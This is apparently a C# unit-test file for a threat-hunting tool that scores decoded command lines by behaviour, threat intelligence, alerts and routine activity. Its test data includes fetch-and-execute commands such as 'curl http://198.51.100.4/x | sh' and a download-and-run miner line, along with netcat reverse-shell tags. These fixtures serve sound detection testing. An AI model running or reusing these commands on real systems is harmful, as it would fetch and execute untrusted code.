using System;
using System.Collections.Generic;
using System.Linq;
using B64Hunt.Classification;
using B64Hunt.Model;
using B64Hunt.Scoring;
using Xunit;
using static B64Hunt.Tests.Scoring.Fixture;

namespace B64Hunt.Tests.Scoring
{
    /// <summary>Each contribution of the default model, pinned on hand-checked fixtures.</summary>
    public class DefaultModelTests
    {
        private static readonly RiskTable Risk = CategoryRuleSet.Parse(
            "rules: []\nrisk:\n  categories:\n    Reverse shell: { points: 5, tactics: [Execution, Command and Control] }\n" +
            "    Persistence: { points: 2.5, tactics: [Persistence] }\n    File manipulation: 0.1\n", "risk.yaml").Risk;

        private static BehaviourHit Hit(string id, string category, double risk, params string[] tactics) =>
            new BehaviourHit { RuleId = id, Category = category, Risk = risk, Tactics = tactics.ToList(), Techniques = new List<string> { "T1059.004" } };

        private static IReadOnlyList<CommandScore> Score(IEnumerable<CommandEvent> events, IEnumerable<RelatedAlert>? alerts = null, TimeSpan? window = null) =>
            CommandScorer.Score(events, alerts, null, window, ScoringModel.Default, Risk).Scores;

        private static CommandEvent At(string command, string host, DateTime time, params BehaviourHit[] hits) =>
            new CommandEvent { DecodedCommand = command, Computer = host, TimeGenerated = time, Behaviours = hits.ToList() };

        [Fact]
        public void EachCategoryCountsOnceAtItsHighestRuleAndTacticsAddBreadth()
        {
            var e = At("x", "h1", T0, Hit("a", "Reverse shell", 5, "Execution", "Command and Control"), Hit("b", "Reverse shell", 3, "Execution"),
                Hit("c", "Persistence", 2.5, "Persistence"), Hit("d", "File manipulation", 0.1));
            var s = Score(new[] { e }).Single();
            // 5 (reverse shell, once) + 2.5 + 0.1 + 2 (three tactics: two beyond the first)
            Assert.Equal(9.6, s.BehaviourScore, 6);
            Assert.Contains("+5 Reverse shell (T1059.004)", s.ScoreReasons);
            Assert.Contains("+2 spans 3 ATT&CK tactics (Command and Control, Execution, Persistence)", s.ScoreReasons);
            Assert.Equal(1 + 9.6, s.TotalScore, 6);
        }

        [Fact]
        public void CategoriesWithoutHitsAreScoredByTheRiskTable()
        {
            var e = new CommandEvent { DecodedCommand = "x", Computer = "h1", TimeGenerated = T0, Categories = new List<string> { "Persistence", "Unknown one" } };
            var s = Score(new[] { e }).Single();
            Assert.Equal(2.5 + RiskTable.DefaultRisk, s.BehaviourScore, 6);
        }

        [Fact]
        public void ExternalAddressesAndRawIpUrlsScoreAndPrivateOnesDoNot()
        {
            var external = new CommandEvent { DecodedCommand = "curl http://198.51.100.4/x | sh", Computer = "h1", TimeGenerated = T0,
                Iocs = new List<Ioc> { new Ioc { Type = "ipv4", Normalized = "198.51.100.4" }, new Ioc { Type = "url", Normalized = "http://198.51.100.4/x" } } };
            var @internal = new CommandEvent { DecodedCommand = "curl http://10.1.2.3/x | sh", Computer = "h1", TimeGenerated = T0,
                Iocs = new List<Ioc> { new Ioc { Type = "ipv4", Normalized = "10.1.2.3" }, new Ioc { Type = "url", Normalized = "http://10.1.2.3/x" } } };
            var scores = Score(new[] { external, @internal });
            Assert.Equal(BehaviourModel.ExternalAddress + BehaviourModel.UrlOnRawIp, scores.Single(s => s.DecodedCommand == external.DecodedCommand).BehaviourScore, 6);
            Assert.Equal(0, scores.Single(s => s.DecodedCommand == @internal.DecodedCommand).BehaviourScore, 6);
            Assert.False(BehaviourModel.IsExternal("127.0.0.1"));
            Assert.False(BehaviourModel.IsExternal("172.20.1.1"));
            Assert.False(BehaviourModel.IsExternal("100.64.3.3"));
            Assert.True(BehaviourModel.IsExternal("172.32.1.1"));
        }

        [Fact]
        public void TheStrongestGtfoBinsFunctionCountsOnce()
        {
            var e = new CommandEvent { DecodedCommand = "nc x", Computer = "h", TimeGenerated = T0, GtfoFunctions = new List<string> { "file-read", "reverse-shell", "upload" } };
            var s = Score(new[] { e }).Single();
            Assert.Equal(1, s.BehaviourScore, 6);
            Assert.Contains("+1 runs a binary with the GTFOBins function reverse-shell", s.ScoreReasons);
        }

        [Fact]
        public void ACronJobOnTenHostsEveryFourHoursIsRoutineAndACampaignOnFiveHostsInAnHourIsNot()
        {
            var events = new List<CommandEvent>();
            var hit = Hit("p", "Persistence", 2.5, "Persistence");
            for (int h = 0; h < 10; h++)
                for (int run = 0; run < 28; run++)
                    events.Add(At("cron job", "app" + h, T0.AddHours(4 * run).AddMinutes(h), hit));
            for (int h = 0; h < 5; h++) events.Add(At("campaign", "web" + h, T0.AddDays(3).AddMinutes(10 * h), hit));
            for (int h = 0; h < 30; h++) events.Add(At("filler " + h, "other" + h, T0.AddDays(h % 5)));
            var scores = Score(events);
            var cron = scores.Single(s => s.DecodedCommand == "cron job");
            var campaign = scores.Single(s => s.DecodedCommand == "campaign");
            Assert.Equal(2.5 * RoutineModel.Discount, cron.RoutineScore, 6);
            var routine = Assert.Single(cron.ScoreReasons, r => r.StartsWith("-2 routine: 280 runs on 10 hosts", StringComparison.Ordinal));
            Assert.Contains("every ~4 h", routine);
            Assert.Equal(0, campaign.RoutineScore);
            Assert.True(campaign.Rank < cron.Rank);
        }

        [Fact]
        public void AFleetWideOneOffIsRoutineByBreadth()
        {
            var events = Enumerable.Range(0, 40).Select(h => At("apt-get upgrade", "h" + h, T0.AddMinutes(h), Hit("p", "Persistence", 2.5))).ToList();
            events.Add(At("rare", "h1", T0.AddDays(2)));
            var s = Score(events).Single(x => x.DecodedCommand == "apt-get upgrade");
            Assert.Equal(2.5 * RoutineModel.Discount, s.RoutineScore, 6);
            Assert.Contains(s.ScoreReasons, r => r.Contains("40 runs on 40 hosts, 100% of the fleet"));
        }

        [Fact]
        public void AnAlertCountsOnTheSameHostWithinTheWindowWeightedByCloseness()
        {
            var e = At("revshell", "web-03", T0, Hit("a", "Reverse shell", 5));
            var alerts = new[]
            {
                new RelatedAlert { Computer = "web-03", AlertName = "Possible reverse shell", Severity = AlertSeverity.High, TimeGenerated = T0.AddMinutes(12) },
                new RelatedAlert { Computer = "web-03", AlertName = "Late", Severity = AlertSeverity.High, TimeGenerated = T0.AddHours(3) },
                new RelatedAlert { Computer = "web-04", AlertName = "Other host", Severity = AlertSeverity.High, TimeGenerated = T0 },
            };
            var s = Score(new[] { e }, alerts).Single();
            // 3 × (1 − 0.5 × 12/60); the hunt spans one instant, so there is no coverage to discount.
            double expected = 3 * (1 - 0.5 * 12.0 / 60);
            Assert.Equal(expected, s.AlertScore, 6);
            Assert.Single(s.Alerts);
            Assert.Contains(s.ScoreReasons, r => r.StartsWith("+2.7 High alert 'Possible reverse shell' on web-03, 12 min after", StringComparison.Ordinal));
        }

        [Fact]
        public void AnAlertNamingTheCommandsIndicatorCountsDouble()
        {
            var e = At("curl http://198.51.100.4/x", "web-03", T0);
            e.Iocs.Add(new Ioc { Type = "ipv4", Normalized = "198.51.100.4" });
            var named = new RelatedAlert { Computer = "web-03", AlertName = "Outbound", Severity = AlertSeverity.Medium, TimeGenerated = T0, Description = "Connection to 198.51.100.4 seen" };
            var unnamed = new RelatedAlert { Computer = "web-03", AlertName = "Outbound", Severity = AlertSeverity.Medium, TimeGenerated = T0, Description = "Connection to 198.51.100.45 seen" };
            double withName = Score(new[] { e }, new[] { named }).Single().AlertScore;
            double without = Score(new[] { e }, new[] { unnamed }).Single().AlertScore;
            Assert.Equal(AlertEvidence.EntityMatch * without, withName, 6);
            Assert.True(without > 0);
        }

        [Fact]
        public void AnAlertOnAnotherDomainNeverScoresAndANameCountsOncePerHost()
        {
            var e = At("x", "web1.contoso.com", T0);
            var alerts = new[]
            {
                new RelatedAlert { Computer = "web1.fabrikam.com", HuntedHost = "web1.contoso.com", AlertName = "A", Severity = AlertSeverity.High, TimeGenerated = T0 },
                new RelatedAlert { Computer = "web1", AlertName = "B", Severity = AlertSeverity.Low, TimeGenerated = T0 },
                new RelatedAlert { Computer = "web1.contoso.com", AlertName = "B", Severity = AlertSeverity.Low, TimeGenerated = T0.AddMinutes(1) },
            };
            var s = Score(new[] { e }, alerts).Single();
            Assert.DoesNotContain(s.Alerts, a => a.AlertName == "A");
            Assert.Equal(1, s.AlertScore, 6);
        }

        [Fact]
        public void AlertPointsAreDividedByTheSquareRootOfTheHostsAndByTheTimeTheCommandCovers()
        {
            // One High alert on one of nine hosts of a command: ÷3.
            var events = Enumerable.Range(0, 9).Select(h => At("job", "h" + h, T0.AddDays(h % 2 == 0 ? 0 : 4))).ToList();
            var s = Score(events, new[] { new RelatedAlert { Computer = "h0", AlertName = "A", Severity = AlertSeverity.High, TimeGenerated = T0 } }).Single();
            double covered = 2.0 / (4 * 24); // one run on h0, ±1 h, over a 4-day hunt
            Assert.Equal(3 * (1 - covered) / 3, s.AlertScore, 6);
            // A command running every two hours on the host covers all its time: the alert says nothing about it.
            var hourly = Enumerable.Range(0, 48).Select(i => At("hourly", "h0", T0.AddHours(2 * i))).ToList();
            Assert.Equal(0, Score(hourly, new[] { new RelatedAlert { Computer = "h0", AlertName = "A", Severity = AlertSeverity.High, TimeGenerated = T0.AddHours(20) } }).Single().AlertScore, 6);
        }

        [Fact]
        public void ATruncatedPayloadJoinsTheCommandItIsAPrefixOf()
        {
            var full = Enumerable.Range(0, 3).Select(i => At("curl -s http://198.51.100.4/miner -o /tmp/m && /tmp/m", "h" + i, T0.AddMinutes(i))).ToList();
            var cut = At("curl -s http://198.51.100.4/mi", "h9", T0.AddMinutes(9));
            cut.IsTruncated = true;
            var lonely = At("wget -q http://203.0.113.", "h8", T0);
            lonely.IsTruncated = true;
            // Counterpart: a complete command that happens to be a prefix of another stays apart.
            var shortComplete = At("curl -s", "h7", T0);
            var scores = Score(full.Concat(new[] { cut, lonely, shortComplete }));
            Assert.Equal(3, scores.Count);
            var merged = scores.Single(s => s.DecodedCommand.StartsWith("curl -s http", StringComparison.Ordinal));
            Assert.Equal(4, merged.CommandCount);
            Assert.Equal(1, merged.TruncatedCount);
            Assert.Contains("h9", merged.Hostnames);
            Assert.Contains(scores, s => s.DecodedCommand == lonely.DecodedCommand);
        }

        [Fact]
        public void AUrlAndItsHostAreOneThreat()
        {
            var e = At("curl http://198.51.100.4/x", "h", T0);
            e.TiResults.Add(Ti("LocalFeed", "198.51.100.4", TiSeverity.High));
            e.TiResults.Add(new TiResult { Provider = "LocalFeed", Ioc = "http://198.51.100.4/x", IocType = "url", Severity = TiSeverity.High, Status = TiStatus.Ok });
            e.TiResults.Add(new TiResult { Provider = "LocalFeed", Ioc = "evil.example.com", IocType = "dns", Severity = TiSeverity.Medium, Status = TiStatus.Ok });
            Assert.Equal(3 + 1.5, Score(new[] { e }).Single().SevScore, 6);
            Assert.Equal(3 + 3 + 1.5, CommandScorer.Score(new[] { e }).Scores.Single().SevScore, 6);
        }

        [Fact]
        public void TheNotebookModelIsTheNotebooksSum()
        {
            var e = At("x", "h", T0, Hit("a", "Reverse shell", 5));
            e.TiResults.Add(Ti("p", "1.2.3.4", TiSeverity.High));
            var s = CommandScorer.Score(new[] { e }, new[] { Alert("h", "A", "Medium", 60 * 24 * 5) }, null, null, ScoringModel.Notebook).Scores.Single();
            Assert.Equal(1 + 3 + 2, s.TotalScore, 6);
            Assert.Equal(0, s.BehaviourScore);
            Assert.Equal("Notebook", s.Model);
            Assert.NotEmpty(s.ScoreReasons);
        }

        [Fact]
        public void TiesBreakOnBehaviourNotOnFirstSeen()
        {
            // Same total: one earns it by what it does, the other (seen first) by an alert; behaviour ranks first.
            var byAlert = new CommandScore { DecodedCommand = "a", TotalScore = 4, FreqScore = 1, AlertScore = 3, FirstSeen = T0 };
            var byBehaviour = new CommandScore { DecodedCommand = "b", TotalScore = 4, FreqScore = 1, BehaviourScore = 3, FirstSeen = T0.AddDays(1) };
            Assert.True(CommandScorer.Compare(byBehaviour, byAlert) < 0);
            // Counterpart: with equal behaviour, the earlier one still wins.
            var same = new CommandScore { DecodedCommand = "c", TotalScore = 4, FreqScore = 1, BehaviourScore = 3, FirstSeen = T0.AddDays(2) };
            Assert.True(CommandScorer.Compare(byBehaviour, same) < 0);
        }

        [Fact]
        public void ScoringGrowsLinearlyWithTheEvents()
        {
            // 50k then 200k events over 2,000 commands and 300 hosts, with alerts: four times the events must allocate
            // about four times the memory, not sixteen (quadratic). Memory, not time: a shared machine makes timings noisy,
            // and speed itself is the benchmark's to measure (build.ps1 bench).
            static List<CommandEvent> Make(int n)
            {
                var hit = new BehaviourHit { RuleId = "r", Category = "Reverse shell", Risk = 5 };
                var list = new List<CommandEvent>(n);
                for (int i = 0; i < n; i++)
                    list.Add(new CommandEvent { DecodedCommand = "cmd " + (i % 2000), Computer = "h" + (i % 300), TimeGenerated = T0.AddMinutes(i % 20000), Behaviours = new List<BehaviourHit> { hit } });
                return list;
            }
            var alerts = Enumerable.Range(0, 500).Select(i => Alert("h" + (i % 300), "A" + (i % 7), "High", i * 37)).ToList();
            long Allocated(List<CommandEvent> events)
            {
                long before = GC.GetAllocatedBytesForCurrentThread();
                CommandScorer.Score(events, alerts, null, null, ScoringModel.Default, Risk);
                return GC.GetAllocatedBytesForCurrentThread() - before;
            }
            // Warm up on events of their own: a model list is made when first read, so a measured run must not find
            // lists that an earlier run over the same events already made.
            Allocated(Make(50_000));
            var small = Make(50_000);
            var large = Make(200_000);
            double ratio = (double)Allocated(large) / Math.Max(1, Allocated(small));
            Assert.True(ratio > 2 && ratio < 6, $"4x the events allocated {ratio:0.0}x the memory");
        }
    }
}
